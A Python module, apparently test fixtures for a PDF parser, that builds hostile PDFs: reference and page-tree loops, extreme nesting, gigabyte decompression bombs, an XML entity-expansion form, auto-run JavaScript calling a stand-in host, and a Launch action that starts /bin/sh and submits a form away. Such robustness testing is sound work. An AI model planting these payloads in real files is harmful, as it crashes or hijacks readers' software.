"""Files whose structure is hostile: loops, false counts, deep nesting, things that run."""

from __future__ import annotations

from .drafts import A4, Draft, deflated, repeated, written
from .registry import bomb

TEXT = b"BT /F 12 Tf 72 700 Td (page) Tj ET"
MANY_PAGES = 200_000
DEEP = 1_000_000
ATTACHED = 3 << 30  # bytes of an embedded file


@bomb("false-page-count")
def false_page_count() -> bytes:
    draft = Draft(tree=b"/Count 2000000000")
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("many-pages")
def many_pages() -> bytes:
    """One page object that the tree names two hundred thousand times."""
    draft = Draft()
    page = draft.drawn(TEXT)
    draft.kids = [page] * MANY_PAGES
    return draft.bytes()


@bomb("page-tree-loop")
def page_tree_loop() -> bytes:
    draft = Draft()
    draft.drawn(TEXT)
    draft.kids.append(draft.add(b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"))
    return draft.bytes()


@bomb("page-tree-deep")
def page_tree_deep() -> bytes:
    """Fifty thousand nodes one below the other, the page below the last."""
    draft = Draft()
    page = draft.drawn(TEXT)
    below = page
    for _ in range(50_000):
        below = draft.add(b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % below)
    draft.kids = [below]
    return draft.bytes()


@bomb("xref-loop")
def xref_loop() -> bytes:
    """A table of cross-references that names itself as the one before."""
    draft = Draft()
    draft.drawn(TEXT)
    content = draft.bytes()
    at = int(content.rpartition(b"startxref\n")[2].split()[0])
    return content.replace(b"/Root 1 0 R", b"/Prev %d/Root 1 0 R" % at)


@bomb("xref-size")
def xref_size() -> bytes:
    """A stream of cross-references for two thousand million objects."""
    entries = b"/Type/XRef/W[1 4 2]/Size 2000000000/Index[0 2000000000]/Root 1 0 R"
    packed = deflated(repeated(b"\0", 1 << 28))
    body = b"<</Length %d/Filter/FlateDecode%s>>\nstream\n" % (len(packed), entries)
    content = b"%PDF-1.7\n4 0 obj\n" + body + packed + b"\nendstream\nendobj\n"
    return content + b"startxref\n9\n%%EOF\n"


@bomb("object-stream-loop")
def object_stream_loop() -> bytes:
    """A stream of objects that is said to lie inside itself."""
    inner = b"1 0 2 40 <</Type/Catalog/Pages 2 0 R>>          <</Type/Pages/Kids[]/Count 1>>"
    stream = b"<</Type/ObjStm/N 2/First 9/Extends 4 0 R/Length %d>>\nstream\n" % len(inner)
    content = b"%PDF-1.7\n4 0 obj\n" + stream + inner + b"\nendstream\nendobj\n"
    at = len(content)
    rows = bytes(
        [0, 0, 0, 0, 2, 0, 4, 0, 2, 0, 4, 1, 0, 0, 0, 0, 2, 0, 4, 0, 1, at >> 8, at & 255, 0]
    )
    entries = b"/Type/XRef/W[1 2 1]/Size 6/Root 1 0 R"
    head = b"5 0 obj\n<</Length %d%s>>\nstream\n" % (len(rows), entries)
    return content + head + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


@bomb("length-loop")
def length_loop() -> bytes:
    """A stream whose length is the stream."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 5 0 R>>" % A4,
        5: b"<</Length 5 0 R>>\nstream\n%s\nendstream" % TEXT,
    }
    return written(objects)


@bomb("reference-loop")
def reference_loop() -> bytes:
    """A page whose box, contents and resources are references in a circle."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 4 0 R/MediaBox 5 0 R/Contents 5 0 R/Resources 5 0 R>>",
        5: b"6 0 R",
        6: b"5 0 R",
    }
    return written(objects)


@bomb("deep-arrays")
def deep_arrays() -> bytes:
    draft = Draft()
    nested = draft.add(b"[" * DEEP + b"]" * DEEP)
    draft.page(draft.stream(TEXT), entries=b"/Annots %d 0 R" % nested)
    return draft.bytes()


@bomb("deep-dictionaries")
def deep_dictionaries() -> bytes:
    draft = Draft(catalogue=b"/A " + b"<</A " * DEEP + b"0" + b">>" * DEEP)
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("outline-loop")
def outline_loop() -> bytes:
    """Bookmarks that follow themselves, and names below themselves."""
    draft = Draft(catalogue=b"/Outlines 4 0 R/Names<</Dests 5 0 R>>")
    draft.add(b"<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 9>>")
    draft.add(b"<</Kids[5 0 R 5 0 R]>>")
    draft.add(b"<</Title(a)/Next 6 0 R/First 4 0 R/Parent 6 0 R/Dest(a)>>")
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("annotation-loop")
def annotation_loop() -> bytes:
    """A field that is its own child, with an appearance that draws itself."""
    draft = Draft(catalogue=b"/AcroForm<</Fields[4 0 R]/NeedAppearances true>>")
    draft.add(
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[10 10 500 500]/Kids[4 0 R]"
        b"/Parent 4 0 R/AP<</N 5 0 R>>>>"
    )
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</XObject<</X 5 0 R>>>>"
    draft.stream(b"/X Do", form)
    draft.page(draft.stream(TEXT), entries=b"/Annots[4 0 R 4 0 R]")
    return draft.bytes()


@bomb("portfolio")
def portfolio() -> bytes:
    """A portfolio whose one file grows to gigabytes."""
    return _holding(deflated(repeated(b"\0", ATTACHED)), b"/Filter/FlateDecode")


@bomb("portfolio-of-itself")
def portfolio_of_itself() -> bytes:
    """A portfolio in a portfolio in a portfolio: each holds the one before."""
    content = _holding(b"%PDF-1.7 nothing")
    for _ in range(20):
        content = _holding(content)
    return content


def _holding(inner: bytes, packing: bytes = b"") -> bytes:
    draft = Draft()
    held = draft.stream(inner, b"/Type/EmbeddedFile" + packing)
    named = draft.add(b"<</Type/Filespec/F(a.pdf)/UF(a.pdf)/EF<</F %d 0 R>>>>" % held)
    draft.catalogue = b"/Collection<<>>/Names<</EmbeddedFiles<</Names[(a.pdf)%d 0 R]>>>>" % named
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("embedded-files")
def embedded_files() -> bytes:
    """Ten thousand files inside one that is no portfolio."""
    draft = Draft()
    names = []
    for number in range(10_000):
        held = draft.stream(b"x", b"/Type/EmbeddedFile")
        named = draft.add(b"<</Type/Filespec/F(%d.exe)/EF<</F %d 0 R>>>>" % (number, held))
        names.append(b"(%d.exe)%d 0 R" % (number, named))
    draft.catalogue = b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % b"".join(names)
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("javascript")
def javascript() -> bytes:
    """A script that never ends, run when the file, the page or a field is opened."""
    script = b"<</S/JavaScript/JS(while\\(true\\){app.launchURL\\('http://x.invalid'\\)})>>"
    draft = Draft(
        catalogue=b"/OpenAction %s/Names<</JavaScript<</Names[(a)%s]>>>>" % (script, script)
    )
    draft.page(draft.stream(TEXT), entries=b"/AA<</O %s>>" % script)
    return draft.bytes()


@bomb("launch")
def launch() -> bytes:
    """Actions that start a program, load another file and send a form away."""
    draft = Draft(
        catalogue=b"/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/GoToR/F(\\\\\\\\host\\\\share)"
        b"/Next<</S/SubmitForm/F(http://x.invalid)>>>>>>"
    )
    draft.drawn(TEXT)
    return draft.bytes()


@bomb("xfa")
def xfa() -> bytes:
    """A form that is only there as XML, which grows by its entities."""
    entities = b"".join(
        b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 12)
    )
    xml = b'<!DOCTYPE x [<!ENTITY e0 "x">%s]><xdp:xdp xmlns:xdp="x">&e11;</xdp:xdp>' % entities
    draft = Draft()
    draft.catalogue = b"/AcroForm<</Fields[]/XFA %d 0 R>>" % draft.stream(xml)
    draft.drawn(b"")
    return draft.bytes()


@bomb("no-pages")
def no_pages() -> bytes:
    return Draft().bytes()


@bomb("not-a-pdf")
def not_a_pdf() -> bytes:
    return b"<html><body><script>while(true){}</script></body></html>"


@bomb("zeros")
def zeros() -> bytes:
    return bytes(64 << 20)
